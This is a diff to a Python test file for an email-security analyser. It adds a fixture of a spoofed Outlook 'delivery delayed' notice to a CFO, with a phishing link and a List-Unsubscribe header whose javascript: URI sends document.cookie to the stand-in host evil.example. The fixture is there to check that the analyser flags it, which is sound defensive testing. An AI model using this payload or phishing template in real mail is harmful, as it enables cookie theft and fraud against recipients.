@@ -385,3 +385,25 @@ def test_list_unsubscribe_of_many_brackets_is_read_in_linear_time() -> None:
         uris, remnants = _unsubscribe_uris(value)
         assert len(uris) <= 8 and len(remnants) <= 8 and all(len(r) <= 200 for r in remnants)
     assert time.perf_counter() - start < 1
+
+
+# A plain-text delay notice dressed as Exchange's, with a List-Unsubscribe that runs script.
+_DRESSED_NOTICE = (
+    "Return-Path: {return_path}\r\nFrom: Microsoft Outlook <postmaster@evil.example>\r\nTo: cfo@corp.example\r\n"
+    "Subject: Delivery delayed: Invoice 4471\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nMessage-ID: <c6@evil.example>\r\n"
+    "Precedence: bulk\r\nList-Unsubscribe: <javascript:fetch('https://evil.example/x?c='+document.cookie)>\r\n"
+    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
+    "Delivery to the following recipient has been delayed:\r\n\r\n     ap@supplier.example\r\n\r\n"
+    "Open https://evil.example/outlook-release to release the message.\r\n")
+
+
+def test_a_notice_read_from_text_hides_no_bulk_warning_unless_sent_with_the_null_sender() -> None:
+    # Sent from a mailbox, not the null sender: its look is no notification, and the bulk rules apply.
+    spoof = analyze(_DRESSED_NOTICE.format(return_path="<bounce@evil.example>"))
+    assert "dsn.delayed" in {f.id for f in spoof.findings}
+    assert bulk_ids(spoof) == {"bulk.unsafe_unsubscribe_uri": "warning", "bulk.no_one_click": "notice"}
+    # With the null sender it is a notification, not judged by the bulk senders' rules; a URI that
+    # runs script is still said.
+    null = analyze(_DRESSED_NOTICE.format(return_path="<>"))
+    assert "dsn.delayed" in {f.id for f in null.findings}
+    assert bulk_ids(null) == {"bulk.unsafe_unsubscribe_uri": "warning"}
